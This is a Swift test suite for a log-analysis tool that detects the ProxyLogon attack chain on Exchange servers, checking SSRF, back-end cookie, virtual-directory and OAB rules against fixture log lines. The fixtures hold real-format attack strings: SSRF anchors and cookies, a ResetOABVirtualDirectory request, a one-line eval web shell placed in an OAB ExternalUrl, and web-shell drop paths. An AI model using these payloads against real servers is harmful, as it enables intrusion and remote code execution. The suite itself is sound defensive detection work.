import Foundation
@testable import ExchangeDetection
import ExchangeEvidence
import Testing

/// Test-ProxyLogon parity on real-format HttpProxy, ECP Server and OAB generator lines (HelseCERT's
/// incident rows, Microsoft Q&A's autodiscover-only row, the nmap probe row of Neo23x0 PR #125).
@Suite struct ProxyLogonRuleTests {
    let store: EventStore
    init() throws { store = try RuleFixtures.store("proxylogon") }

    @Test func ssrfGroupsTheAttackBurstAndQuotesTheAnchor() {
        let f = RuleFixtures.run("proxylogon.ssrf", on: store)
        #expect(f.count == 1)  // the 06:49–06:59 chain and the failed reset 20 minutes later: one burst
        let chain = f.first { $0.events.count == 7 }
        #expect(chain != nil)
        #expect(chain?.server == "EX01")
        #expect(chain?.severity == .high)
        #expect(chain?.cves == ["CVE-2021-26855"])
        #expect(chain?.time == Timestamp.parse("2021-03-03T06:49:42.162Z"))
        #expect(chain?.line == 6)
        #expect(chain?.file.hasSuffix("HttpProxy/Ecp/HttpProxy_2021030306-1.LOG") == true)
        #expect(chain?.summary.contains("130.255.189.21") == true)
        #expect(chain?.summary.contains("/ecp/proxyLogon.ecp (241)") == true)
        #expect(chain?.summary.contains("schema=ResetOABVirtualDirectory") == true)
    }

    @Test func autodiscoverOnlyIsKeptSeparatelyAtMedium() {
        let f = RuleFixtures.run("proxylogon.ssrf-autodiscover", on: store)
        #expect(f.count == 1)
        #expect(f.first?.severity == .medium)
        #expect(f.first?.summary.contains("45.77.252.175") == true)
        // The attacker's own autodiscover row belongs to its SSRF burst, not to this rule.
        #expect(f.first?.summary.contains("130.255.189.21") == false)
    }

    @Test func localhostProbeIsALowScannerFinding() {
        let f = RuleFixtures.run("proxylogon.scanner-probe", on: store)
        #expect(f.count == 1)
        #expect(f.first?.severity == .low)
        #expect(f.first?.summary.contains("ServerInfo~localhost/ecp/default.flt?") == true)
        #expect(RuleFixtures.run("proxylogon.ssrf", on: store).allSatisfy { !$0.summary.contains("198.51.100.23") })
    }

    /// The scanners' payload names no port; an anchor aimed at `localhost:444`, the server's own back end, is an
    /// exploit (a reset of the OAB directory answered 200 is no probe), though Test-ProxyLogon drops both.
    @Test func localhostOnTheBackEndPortIsSSRFNotAScannerProbe() {
        func kind(_ anchor: String) -> ServerInfoAnchor {
            Array(anchor.utf8).withUnsafeBytes { ServerInfoAnchor.classify($0) }
        }
        #expect(kind("ServerInfo~localhost/ecp/default.flt?") == .localhost)
        #expect(kind("ServerInfo~localhost~1942062522/ecp/default.flt?") == .localhost)
        #expect(kind("ServerInfo~localhost:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=zz&schema=ResetOABVirtualDirectory#") == .localBackEnd)
        #expect(kind("ServerInfo~localhost:444/autodiscover/autodiscover.xml?#") == .autodiscover)
        #expect(kind("ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#") == .ssrf)
        #expect(kind("ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#") == .autodiscover)
        #expect(ServerInfoAnchor.ssrf([.ssrf: [1, 7], .localBackEnd: [4], .localhost: [2]]) == [1, 4, 7])
    }

    @Test func backEndCookieWithAPathFiresAndADatabaseCookieDoesNot() {
        let f = RuleFixtures.run("proxylogon.backend-cookie", on: store)
        #expect(f.count == 1)
        #expect(f.first?.summary.contains("Server~a]@EX01.contoso.local:444/ecp/proxyLogon.ecp?#~1941962753") == true)
        #expect(f.first?.summary.contains("Database~") == false)
    }

    /// The byte prefilter keeps a `server~` hit only when a '/' follows inside the value: a proxied request's own
    /// `Server~FQDN~…` cookie with a URL in a later column is turned down before its column is read.
    @Test func backEndCookiePrefilterLooksInsideTheValue() {
        func keeps(_ line: String) -> Bool {
            let hit = line.lowercased().range(of: "server~")!.lowerBound.utf16Offset(in: line)
            return Array(line.utf8).withUnsafeBytes { BackEndCookieRule.slashFollows($0, hit) }
        }
        #expect(!keeps("WindowsIdentity,Server~ex03.contoso.local~1941968834~2021-03-25T05:00:54,ex03.contoso.local,/owa/x"))
        #expect(keeps("WindowsIdentity,Server~a]@EX01.contoso.local:444/ecp/proxyLogon.ecp?#~1941962753,x"))
        #expect(keeps("WindowsIdentity,\"Server~a,b/ecp~1\",x"), "a quoted value may hold commas: the column decides")
        #expect(!keeps("WindowsIdentity,Server~ex01~1"))
    }

    @Test func resetVirtualDirectoryNeedsStatus200() {
        let f = RuleFixtures.run("proxylogon.reset-vdir", on: store)
        #expect(f.count == 1)
        #expect(f.first?.events.count == 1)
        #expect(f.first?.time == Timestamp.parse("2021-03-03T06:59:20.359Z"))
        #expect(f.first?.cves.contains("CVE-2021-27065") == true)
    }

    @Test func ecpSetVirtualDirectoryWithScriptFiresAndAValidURLDoesNot() {
        let f = RuleFixtures.run("proxylogon.ecp-set-vdir", on: store)
        #expect(f.count == 1)
        let s = f.first?.summary ?? ""
        #expect(s.hasPrefix("Set-OabVirtualDirectory ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"))
        #expect(s.contains("eval(Request[\"klk123456\"],\"unsafe\")"))
        #expect(!s.contains("mail.contoso.com"))
        #expect(f.first?.time == Timestamp.parse("2021-03-03T06:49:53.772Z"))
    }

    @Test func ecpCheckReadsHelseCERTsTrimmedLineToo() {
        let line = "2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''"
        #expect(VirtualDirectoryCommand.scriptedUrl(in: line) != nil)
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='x'") == nil)
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OwaVirtualDirectory.InternalUrl=$null;S:URL=/ecp/x?a=<b>") == nil)
        // Markup in another parameter than the URL (a logon page's text) is no payload in the URL (reviewer).
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'"
            + ".LogonPageLightSelectionText='<b>Public computer</b>'.Identity='EX02\\owa (Default Web Site)';S:REQID=") == nil)
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "Set-OwaVirtualDirectory -ExternalUrl 'https://mail.contoso.com/owa' -LogonPageLightSelectionText '<b>x</b>'") == nil)
        // `ExternalUrl=` inside another parameter's value is no parameter; a value is quoted as far as it goes.
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OabVirtualDirectory.Identity='ExternalUrl=<script>'.ExternalUrl='https://ok/OAB';S:REQID=") == nil)
        #expect(VirtualDirectoryCommand.scriptedUrl(in: #"S:CMD=Set-OabVirtualDirectory.ExternalUrl="http://f/<script>x</script>".Identity='a';S:REQID="#)?.value
                == "http://f/<script>x</script>")
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OabVirtualDirectory.ExternalUrl=http://f/<script>x</script>.Identity=a;S:REQID=")?.value
                == "http://f/<script>x</script>")
        // The cmdlet log's forms: quoted, and unquoted up to the next parameter.
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "Set-OabVirtualDirectory -Identity 'EX01\\OAB' -ExternalUrl 'http://f/<script language=\"JScript\">x</script>'")?.parameter == "ExternalUrl")
        #expect(VirtualDirectoryCommand.scriptedUrl(in: "Set-OabVirtualDirectory -ExternalUrl http://f/<script language=\"JScript\" runat=\"server\">x</script> -Identity x") != nil)
    }

    /// HelseCERT's two-column excerpt wraps EventData in `'…'` and keeps the log's `""`: the summary quotes the
    /// value as the ECP log held it (reviewer: `language=""JScript""`).
    @Test func theExcerptsQuotingIsUndoneInTheSummary() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-helsecert-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("EX01/ECP/Server/ECPServer20210303-1.LOG")
        try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
        let line = #"2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8'''"#
        try (line + "\n").write(to: file, atomically: true, encoding: .utf8)
        let s = EventStore()
        _ = try EvidenceLoader().load(dir.path, into: s)
        let f = try #require(RuleFixtures.run("proxylogon.ecp-set-vdir", on: s).first)
        #expect(f.summary == #"Set-OabVirtualDirectory ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>'"#,
                "\(f.summary)")
        #expect(CSVLine.unquotedTail(#""a,""b""""#) == #"a,"b""# && CSVLine.unquotedTail("S:CMD=x") == "S:CMD=x")
    }

    @Test func oabDownloadOutsideTheOABFolderFiresForUNCLocalAndTraversal() {
        let f = RuleFixtures.run("proxylogon.oab-download", on: store)
        #expect(f.count == 3)
        let all = f.map(\.summary).joined(separator: "\n")
        #expect(all.contains("'\\\\EX01\\C$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed: UNC path"))
        #expect(all.contains("owa\\auth\\one.aspx' needs to be removed: path is outside <install>\\ClientAccess\\OAB"))
        #expect(all.contains("climbs out with '..'"))
        #expect(!all.contains("OAB\\Temp\\f3a1c2d4"))
    }

    /// The download path is the file the exploit wrote: kept as the event's `url_stem`, where indicators of paths
    /// and names are looked for (reviewer: grep-ioc found the shell only from the later requests for it).
    @Test func theDownloadPathIsTheEventsPath() {
        let oab = store.events(where: .urlStem, kinds: [.oabGenerator]) { _ in true }.map { store.value(.urlStem, $0) }
        #expect(oab.contains("\\\\EX01\\C$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"), "\(oab)")
        #expect(OABGeneratorLine.downloadPath(in: "2021-03-03T06:50:02.110Z,OABGen,Info,Processing offline address book 'Default'") == nil)
        #expect(OABGeneratorLine.downloadPath(in: "DOWNLOAD FAILED AND TEMPORARY FILE \"C:\\x.aspx\" NEEDS TO BE REMOVED") == "C:\\x.aspx")
    }

    @Test func oabPathClassification() {
        #expect(OABDownloadRule.suspicion("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a\\b.xml") == nil)
        #expect(OABDownloadRule.suspicion("D:\\Exchange\\ClientAccess\\OAB\\Temp\\x.lzx") == nil)
        #expect(OABDownloadRule.suspicion("\\\\10.1.1.1\\share\\x.aspx") == "UNC path")
        #expect(OABDownloadRule.suspicion("C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx") != nil)
    }
}
